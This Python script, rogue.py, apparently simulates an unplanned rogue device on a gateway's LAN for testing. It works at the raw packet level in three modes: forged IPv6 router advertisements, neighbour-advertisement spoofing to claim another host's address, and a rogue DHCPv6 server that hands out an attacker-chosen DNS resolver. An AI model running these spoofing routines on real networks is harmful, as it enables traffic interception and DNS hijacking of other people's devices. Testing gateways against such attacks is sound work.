"""A machine that nobody planned, on the LAN of the gateway that this runs on.

rogue.py router <preference bits> [<prefix>]   advertises itself, three times a second
rogue.py owner <address>                       says that an address is its own
rogue.py dhcpv6 <resolver>                     answers every DHCPv6 question with this resolver
"""

import socket
import struct
import sys
import time

MAC = bytes.fromhex("0a0000000bad")
LINK_LOCAL = socket.inet_pton(socket.AF_INET6, "fe80::bad")
ETH_P_IPV6 = 0x86DD
# Seconds after which nothing is left of what it said.
LIFETIME = 15
SOL_PACKET, PACKET_ADD_MEMBERSHIP, PACKET_MR_PROMISC = 263, 1, 1

card = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IPV6))
card.bind(("lan", ETH_P_IPV6))
promiscuous = struct.pack("iHH8s", socket.if_nametoindex("lan"), PACKET_MR_PROMISC, 0, b"")
card.setsockopt(SOL_PACKET, PACKET_ADD_MEMBERSHIP, promiscuous)


def address(text):
    return socket.inet_pton(socket.AF_INET6, text)


def send(mac, source, destination, protocol, message, checksum_at):
    pseudo = source + destination + struct.pack(">IHBB", len(message), 0, 0, protocol)
    data = pseudo + message + b"\0" * (len(message) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    message = message[:checksum_at] + struct.pack(">H", ~total & 0xFFFF) + message[checksum_at + 2 :]
    head = struct.pack(">IHBB", 0x60000000, len(message), protocol, 255) + source + destination
    card.send(mac + MAC + struct.pack(">H", ETH_P_IPV6) + head + message)


def router(preference, prefix=None):
    options = b"\x01\x01" + MAC
    if prefix is not None:
        options += struct.pack(">BBBBIII", 3, 4, 64, 0xC0, LIFETIME, LIFETIME, 0) + address(prefix)
    message = struct.pack(">BBHBBHII", 134, 0, 0, 64, int(preference) << 3, LIFETIME, 0, 0) + options
    while True:
        send(bytes.fromhex("333300000001"), LINK_LOCAL, address("ff02::1"), 58, message, 2)
        time.sleep(0.3)


def owner(text):
    own = address(text)
    while True:
        frame = card.recv(2048)
        packet = frame[14:]
        if packet[6] == 58 and packet[40] == 135 and packet[48:64] == own:
            message = struct.pack(">BBHI", 136, 0, 0, 0x40000000) + own + b"\x02\x01" + MAC
            send(frame[6:12], own, packet[8:24], 58, message, 2)


def dhcpv6(resolver):
    server = struct.pack(">HHHH", 2, 10, 3, 1) + MAC
    servers = struct.pack(">HH", 23, 16) + address(resolver)
    while True:
        frame = card.recv(2048)
        packet = frame[14:]
        if packet[6] != 17 or packet[42:44] != struct.pack(">H", 547):
            continue
        question = packet[48:]
        kind = {1: 2, 11: 7}.get(question[0])
        at = 4
        while kind is not None and at + 4 <= len(question):
            code, length = struct.unpack(">HH", question[at : at + 4])
            if code == 1:
                answer = bytes([kind]) + question[1:4] + question[at : at + 4 + length] + server + servers
                message = struct.pack(">HHHH", 547, 546, 8 + len(answer), 0) + answer
                send(frame[6:12], LINK_LOCAL, packet[8:24], 17, message, 6)
            at += 4 + length


globals()[sys.argv[1]](*sys.argv[2:])
